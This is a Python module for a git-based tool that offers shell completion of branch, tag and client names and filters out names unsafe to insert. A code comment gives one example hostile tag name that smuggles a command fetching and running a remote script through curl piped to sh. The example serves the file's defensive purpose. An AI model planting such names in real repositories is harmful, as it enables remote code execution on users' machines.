"""Shell completion of names from the repository (typer's `autocompletion=` callbacks): branch
names, release tags and client ids, read with one bounded `git for-each-ref` each. A
completion never fails: outside a repository it offers nothing."""

from __future__ import annotations

import re
from pathlib import Path

import typer

from branchml.repo.refnames import ref_names


def _cwd(ctx: typer.Context) -> Path:
    """The folder `branchml -C DIR` names on the command line being completed, else here."""
    root = ctx.find_root()
    directory = root.params.get("directory") if root.params else None
    return Path(directory) if directory else Path(".")


# What a completion may offer. The shell puts the word into the command line as it is (bash
# does not quote it), and git allows `;`, `$(`, `` ` ``, `|`, `&` in ref names: a fetched tag
# `acme-v1;$(curl x|sh)` would run when the completed line is entered. Names with any other
# character are left out; they can still be typed, quoted.
SAFE_NAME = re.compile(r"[A-Za-z0-9._/+=@,-]+")


def _starting(names: list[str], incomplete: str) -> list[str]:
    return [n for n in names if n.startswith(incomplete) and SAFE_NAME.fullmatch(n)]


def branches(ctx: typer.Context, incomplete: str) -> list[str]:
    return _starting(ref_names(_cwd(ctx), "refs/heads/"), incomplete)


def tags(ctx: typer.Context, incomplete: str) -> list[str]:
    return _starting(ref_names(_cwd(ctx), "refs/tags/"), incomplete)


def revisions(ctx: typer.Context, incomplete: str) -> list[str]:
    """Where a branch, a commit or a release tag is asked for: branches, then tags."""
    return branches(ctx, incomplete) + tags(ctx, incomplete)


def clients(ctx: typer.Context, incomplete: str) -> list[str]:
    """Clients that were deployed (refs/deploy/CLIENT) or have a release tag (read with the
    repository's tag format)."""
    cwd = _cwd(ctx)
    found = set(ref_names(cwd, "refs/deploy/"))
    names = ref_names(cwd, "refs/tags/")
    if names:
        found.update(_tag_clients(cwd, names))
    return sorted(_starting(list(found), incomplete))


def _tag_clients(cwd: Path, names: list[str]) -> set[str]:
    from branchml.core.naming import DEFAULT_FORMAT, TagFormat
    from branchml.errors import BranchmlError

    try:
        fmt = TagFormat(_tag_template(cwd))
    except BranchmlError:  # a template the config schema let through but naming refuses
        fmt = TagFormat(DEFAULT_FORMAT)
    return {parsed[0] for parsed in map(fmt.parse, names) if parsed}


def _tag_template(cwd: Path) -> str:
    """`tags.format` of the config at the trusted ref, read without the config cache: a Tab
    press writes nothing (the cache would go under .git, even another repository's with
    `-C`). Any config that cannot be read gives the default format, which names most."""
    from branchml import config
    from branchml.core import bounds
    from branchml.core.naming import DEFAULT_FORMAT
    from branchml.errors import BranchmlError
    from branchml.ops.trusted import trusted_ref
    from branchml.repo.reader import Git

    g = Git(cwd)
    try:
        found = g.read_bounded(f"{trusted_ref(g)}:{config.CONFIG_FILE}", bounds.CONFIG)
        cfg = config.load_bytes(found[1] if found else None, "the trusted config")
        return str((cfg.get("tags") or {}).get("format", DEFAULT_FORMAT))
    except BranchmlError:  # bounds.TooLarge too
        return DEFAULT_FORMAT
    finally:
        g.close()
